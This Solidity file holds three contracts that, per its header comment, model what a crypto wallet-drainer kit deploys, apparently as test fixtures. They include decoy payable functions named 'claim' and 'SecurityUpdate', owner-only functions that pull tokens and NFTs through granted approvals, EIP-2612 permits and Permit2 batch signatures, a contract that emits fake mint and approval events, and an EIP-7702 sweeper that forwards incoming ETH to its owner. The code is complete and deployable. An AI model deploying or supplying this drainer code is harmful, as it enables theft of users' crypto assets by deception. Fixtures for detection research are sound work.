// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Permit.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";

interface IPermit2 {
    struct PermitDetails {
        address token;
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    struct PermitBatch {
        PermitDetails[] details;
        address spender;
        uint256 sigDeadline;
    }

    function permit(address owner, PermitBatch memory batch, bytes calldata signature) external;
    function transferFrom(address from, address to, uint160 amount, address token) external;
}

/// What a drainer kit deploys: payable functions with kind names, and pulls that use granted powers. Test use only.
contract Drainer {
    address public immutable owner = msg.sender;

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    receive() external payable {}

    function claim() external payable {}

    function claimRewards(address) external payable {}

    function SecurityUpdate() external payable {}

    function pull(address token, address from, uint256 amount) external onlyOwner {
        require(IERC20(token).transferFrom(from, owner, amount), "pull");
    }

    function pullNft(address collection, address from, uint256 id) external onlyOwner {
        IERC721(collection).transferFrom(from, owner, id);
    }

    function pullItems(address collection, address from, uint256 id, uint256 amount) external onlyOwner {
        IERC1155(collection).safeTransferFrom(from, owner, id, amount, "");
    }

    function permitAndPull(address token, address from, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
        onlyOwner
    {
        IERC20Permit(token).permit(from, address(this), amount, deadline, v, r, s);
        uint256 held = IERC20(token).balanceOf(from);
        require(IERC20(token).transferFrom(from, owner, held < amount ? held : amount), "pull");
    }

    function permit2AndPull(
        IPermit2 permit2,
        address from,
        IPermit2.PermitBatch calldata batch,
        bytes calldata signature
    ) external onlyOwner {
        permit2.permit(from, batch, signature);
        for (uint256 i = 0; i < batch.details.length; i++) {
            uint160 held = uint160(IERC20(batch.details[i].token).balanceOf(from));
            uint160 limit = batch.details[i].amount;
            permit2.transferFrom(from, owner, held < limit ? held : limit, batch.details[i].token);
        }
    }

    function sweep() external onlyOwner {
        payable(owner).transfer(address(this).balance);
    }
}

/// Says in events what never happens: a "mint", an arrival, a harmless approval.
contract EventLiar {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function mint() external payable {
        emit Transfer(address(0), msg.sender, 1_000_000e18);
        emit Approval(msg.sender, address(this), 0);
    }
}

/// EIP-7702 sweeper: an account that delegates to it sends away whatever arrives.
contract Sweeper {
    address public immutable owner = msg.sender;

    receive() external payable {
        payable(owner).call{value: address(this).balance}("");
    }

    function sweep() external {
        payable(owner).call{value: address(this).balance}("");
    }
}
